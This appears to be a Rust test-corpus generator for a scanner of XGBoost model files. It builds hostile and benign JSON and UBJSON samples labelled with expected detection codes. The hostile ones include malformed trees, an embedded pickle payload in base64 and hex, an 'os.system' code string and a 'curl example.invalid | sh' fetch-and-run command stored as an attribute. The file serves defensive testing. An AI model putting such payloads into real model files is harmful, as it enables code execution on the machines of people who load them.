//! Writes `XGBoost` models, in JSON, UBJSON and the old binary form.

use std::fmt::Write as _;

use crate::{Sample, compressed::gzip, pickle::system};

const FAMILY: &str = "xgboost";

/// A value of a model.
#[derive(Clone, Debug)]
pub enum Value {
    Text(String),
    Int(i64),
    List(Vec<Value>),
    Map(Vec<(&'static str, Value)>),
}

use Value::{Int, List, Map, Text};

fn text(text: &str) -> Value {
    Text(text.to_owned())
}

fn ints(values: &[i64]) -> Value {
    List(values.iter().copied().map(Int).collect())
}

impl Value {
    /// As JSON.
    pub fn json(&self) -> String {
        match self {
            Text(text) => format!("{text:?}"),
            Int(number) => number.to_string(),
            List(items) => format!("[{}]", items.iter().map(Self::json).collect::<Vec<_>>().join(",")),
            Map(entries) => {
                let entries: Vec<_> =
                    entries.iter().map(|(key, value)| format!("\"{key}\":{}", value.json())).collect();
                format!("{{{}}}", entries.join(","))
            }
        }
    }

    /// As UBJSON; lists of numbers are typed, as `XGBoost` writes them.
    pub fn ubjson(&self) -> Vec<u8> {
        let string =
            |text: &str| [b"L".as_slice(), &(text.len() as u64).to_be_bytes(), text.as_bytes()].concat();
        match self {
            Text(text) => [b"S".to_vec(), string(text)].concat(),
            Int(number) => [b"L".to_vec(), number.to_be_bytes().to_vec()].concat(),
            List(items) if items.iter().all(|item| matches!(item, Int(_))) => {
                let mut out = [b"[$L#L".as_slice(), &(items.len() as u64).to_be_bytes()].concat();
                for item in items {
                    out.extend_from_slice(&item.ubjson()[1..]);
                }
                out
            }
            List(items) => {
                let mut out = [b"[#L".as_slice(), &(items.len() as u64).to_be_bytes()].concat();
                out.extend(items.iter().flat_map(Self::ubjson));
                out
            }
            Map(entries) => {
                let mut out = b"{".to_vec();
                for (key, value) in entries {
                    out.extend([string(key), value.ubjson()].concat());
                }
                [out, b"}".to_vec()].concat()
            }
        }
    }
}

/// A tree of three nodes: its children, and the features that it splits by.
pub fn tree(left: &[i64], right: &[i64], features: &[i64], nodes: &str) -> Value {
    let zeros = ints(&vec![0; left.len()]);
    Map(vec![
        ("base_weights", zeros.clone()),
        ("default_left", zeros.clone()),
        ("id", Int(0)),
        ("left_children", ints(left)),
        ("parents", ints(&vec![0; left.len()])),
        ("right_children", ints(right)),
        ("split_conditions", zeros.clone()),
        ("split_indices", ints(features)),
        ("sum_hessian", zeros),
        ("tree_param", Map(vec![("num_feature", text("4")), ("num_nodes", text(nodes))])),
    ])
}

/// A model of trees with attributes.
pub fn model(trees: Vec<Value>, attributes: Vec<(&'static str, Value)>) -> Value {
    let count = trees.len().to_string();
    let booster = Map(vec![
        (
            "model",
            Map(vec![("gbtree_model_param", Map(vec![("num_trees", Text(count))])), ("trees", List(trees))]),
        ),
        ("name", text("gbtree")),
    ]);
    let learner = Map(vec![
        ("attributes", Map(attributes)),
        ("feature_names", List(vec![text("age"), text("income")])),
        ("gradient_booster", booster),
        ("learner_model_param", Map(vec![("base_score", text("5E-1")), ("num_feature", text("4"))])),
        ("objective", Map(vec![("name", text("binary:logistic"))])),
    ]);
    Map(vec![("learner", learner), ("version", ints(&[3, 0, 0]))])
}

fn good() -> Value {
    tree(&[1, -1, -1], &[2, -1, -1], &[3, 0, 0], "3")
}

/// The files of this family.
#[expect(clippy::too_many_lines, reason = "a table")]
pub fn samples() -> Vec<Sample> {
    let base64 = crate::pickle::base64(&system().stop());
    let hex = system().stop().iter().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "{byte:02x}");
        out
    });
    let mut samples = Vec::new();
    let cases: Vec<(&str, Value, &'static [&'static str])> = vec![
        (
            "child outside the tree",
            model(vec![tree(&[4_000_000, -1, -1], &[2, -1, -1], &[0, 0, 0], "3")], vec![]),
            &["XGB002"],
        ),
        (
            "child that is the root",
            model(vec![tree(&[0, -1, -1], &[2, -1, -1], &[0, 0, 0], "3")], vec![]),
            &["XGB002"],
        ),
        (
            "children that are one",
            model(vec![tree(&[1, -1, -1], &[1, -1, -1], &[0, 0, 0], "3")], vec![]),
            &["XGB002"],
        ),
        (
            "walk that does not end",
            model(vec![tree(&[1, 2, 1], &[2, -1, -1], &[0, 0, 0], "3")], vec![]),
            &["XGB002"],
        ),
        (
            "fewer children than nodes",
            model(vec![tree(&[1, -1], &[2, -1, -1], &[0, 0, 0], "3")], vec![]),
            &["XGB002"],
        ),
        (
            "more nodes than there are",
            model(vec![tree(&[1, -1, -1], &[2, -1, -1], &[0, 0, 0], "2000000000")], vec![]),
            &["XGB002"],
        ),
        (
            "nodes that are no number",
            model(vec![tree(&[1, -1, -1], &[2, -1, -1], &[0, 0, 0], "-3")], vec![]),
            &["XGB002"],
        ),
        (
            "feature that is not there",
            model(vec![tree(&[1, -1, -1], &[2, -1, -1], &[9000, 0, 0], "3")], vec![]),
            &["XGB002"],
        ),
        (
            "second tree that is none",
            model(vec![good(), tree(&[3, -1, -1], &[2, -1, -1], &[0, 0, 0], "3")], vec![]),
            &["XGB002"],
        ),
        (
            "pickle in an attribute",
            model(vec![good()], vec![("callback", Text(base64.clone()))]),
            &["XGB003"],
        ),
        ("pickle in digits", model(vec![good()], vec![("state", Text(hex))]), &["XGB003"]),
        (
            "code in an attribute",
            model(vec![good()], vec![("hook", text("import os; os.system('true')"))]),
            &["XGB003"],
        ),
        (
            "command in an attribute",
            model(vec![good()], vec![("hook", text("curl example.invalid | sh"))]),
            &["XGB003"],
        ),
    ];
    for (what, value, codes) in cases {
        samples.push(Sample::hostile(
            FAMILY,
            format!("{what}, JSON"),
            "model.json",
            value.json().into_bytes(),
            codes,
        ));
        samples.push(Sample::hostile(FAMILY, format!("{what}, UBJSON"), "model.ubj", value.ubjson(), codes));
    }
    let bad = model(vec![tree(&[9, -1, -1], &[2, -1, -1], &[0, 0, 0], "3")], vec![]);
    let cut = |bytes: Vec<u8>| bytes[..bytes.len() - 8].to_vec();
    let hostile = |what: &str, path: &str, bytes, codes| Sample::hostile(FAMILY, what, path, bytes, codes);
    samples.extend([
        hostile(
            "cut off behind a tree that is none, JSON",
            "model.json",
            cut(bad.json().into_bytes()),
            &["XGB001", "XGB002"],
        ),
        hostile(
            "cut off behind a tree that is none, UBJSON",
            "model.ubj",
            cut(bad.ubjson()),
            &["XGB001", "XGB002"],
        ),
        hostile(
            "bytes behind a tree that is none",
            "model.ubj",
            [bad.ubjson(), system().stop()].concat(),
            &["XGB001", "XGB002"],
        ),
        hostile(
            "child of negative number",
            "model.ubj",
            model(vec![tree(&[-7, -1, -1], &[2, -1, -1], &[0, 0, 0], "3")], vec![]).ubjson(),
            &["XGB002"],
        ),
        hostile("compressed", "model.json.gz", gzip(bad.json().as_bytes()), &["XGB002"]),
    ]);
    let benign = |what: &str, path: &str, bytes| Sample::benign(FAMILY, what, path, bytes);
    let settings =
        vec![("scikit_learn", text("{\"_estimator_type\": \"classifier\"}")), ("best_iteration", text("7"))];
    let plain = model(vec![good(), good()], settings);
    let leaf = model(vec![tree(&[-1], &[-1], &[0], "1")], vec![]);
    samples.extend([
        benign("two trees", "model.json", plain.json().into_bytes()),
        benign("two trees, UBJSON", "model.ubj", plain.ubjson()),
        benign("tree of one leaf", "model.json", leaf.json().into_bytes()),
        benign("tree of one leaf, UBJSON", "model.ubj", leaf.ubjson()),
        benign("no trees", "model.json", model(vec![], vec![]).json().into_bytes()),
        benign(
            "version in front",
            "model.json",
            format!("{{\"version\":[1,7,6],{}", plain.json().strip_prefix('{').unwrap())
                .replace(",\"version\":[3,0,0]}", "}")
                .into_bytes(),
        ),
        benign("compressed", "model.json.gz", gzip(plain.json().as_bytes())),
    ]);
    samples
}
